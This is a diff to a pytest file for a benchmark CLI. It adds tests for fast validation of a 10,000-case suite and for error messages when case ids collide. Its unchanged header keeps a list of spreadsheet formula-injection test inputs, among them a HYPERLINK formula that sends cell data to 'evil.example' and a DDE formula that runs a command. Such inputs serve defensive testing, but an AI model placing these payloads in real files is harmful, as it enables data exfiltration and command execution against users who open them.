@@ -9,15 +9,19 @@ import io
 import os
 import subprocess
 import sys
+import time
+import typing
 
 import pandas as pd
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
-from test_hostile_input import REPO, TINY, assert_usage_error, snapshot
+from test_hostile_input import BASE, REPO, TINY, assert_usage_error, snapshot
 from test_report import make_run_dir
 
 from ticketbench.bench.cli import main
+from ticketbench.bench.suite import SuiteError, load_suite, parse_suite
+from ticketbench.models.tickets import TicketConfig
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3",
             "\tx"]  # fmt: skip
@@ -60,6 +64,8 @@ FAIL_ONE_CASE = """
 import sys
 from ticketbench.bench import runner
 from ticketbench.bench.cli import main
+from ticketbench.bench.suite import SuiteError, load_suite, parse_suite
+from ticketbench.models.tickets import TicketConfig
 from ticketbench.results import empty_row
 
 def fake(self, case, base):
@@ -97,3 +103,43 @@ def test_a_mistyped_run_creates_no_database(tmp_path, capsys, monkeypatch, args)
     line = assert_usage_error(capsys, ["compare", *args], "typo: not a run directory (no results.csv)")
     assert f"no results database at {tmp_path / 'runs' / 'ticketbench.sqlite'}" in line and "--db" in line
     assert not (tmp_path / "runs").exists() and snapshot(tmp_path) == before
+
+
+# -- a suite of 10**4 cases validates in seconds, and colliding case ids name both cases ------------------------------
+def test_ten_thousand_cases_validate_fast_reading_type_hints_once_per_options_class(tmp_path, monkeypatch):
+    """Validation took 12 s: typing.get_type_hints (which compiles every annotation) ran once per case."""
+    calls: list[object] = []
+    real = typing.get_type_hints
+    monkeypatch.setattr(typing, "get_type_hints", lambda obj, *a, **k: calls.append(obj) or real(obj, *a, **k))
+    sparsities = ", ".join(f"{k / 100:g}" for k in range(100))  # 100 cases of one id prefix each: no 6-hex collision
+    entries = "".join(f"[[cases]]\nseed = {i}\nsparsity = [{sparsities}]\n" for i in range(100))
+    (tmp_path / "s.toml").write_text(BASE + entries)
+    t0 = time.perf_counter()
+    suite = load_suite(str(tmp_path / "s.toml"))
+    elapsed = time.perf_counter() - t0
+    assert len(suite.cases) == 10_000 and len({c.case_id for c in suite.cases}) == 10_000
+    assert len(calls) <= 1, calls[:3]  # the magnitude options class, once (or already cached), not once per entry
+    assert elapsed < 8, elapsed  # 12 s before on an idle machine; about 2 s now
+
+
+@pytest.mark.parametrize(
+    "cases, needle",
+    [
+        ("[[cases]]\nseed = 1\n[[cases]]\nseed = 1\n", "cases 0 (sparsity 0) and 1 (sparsity 0) are the same case"),
+        ("[[cases]]\nsparsity = [0.5, 0.5]\n", "cases 0 (sparsity 0.5) and 0 (sparsity 0.5) are the same case"),
+    ],
+)
+def test_duplicate_cases_are_named(cases, needle):
+    with pytest.raises(SuiteError, match=needle.replace("(", r"\(").replace(")", r"\)")):
+        parse_suite(__import__("tomllib").loads(BASE + cases), "s.toml")
+
+
+def test_colliding_case_ids_name_both_cases(monkeypatch):
+    """Two different configs whose 6-hex hashes collide: both cases named, and why."""
+    monkeypatch.setattr(TicketConfig, "key", lambda self: "c0ffee0000")
+    doc = __import__("tomllib").loads(BASE + "[[cases]]\nseed = 1\n[[cases]]\nseed = 2\n")
+    with pytest.raises(SuiteError) as err:
+        parse_suite(doc, "s.toml")
+    msg = str(err.value)
+    assert "cases 0 (sparsity 0) and 1 (sparsity 0) differ but share the case id" in msg
+    assert "small_cnn-digits-magnitude-s0.00-c0ffee" in msg and "seed" in msg
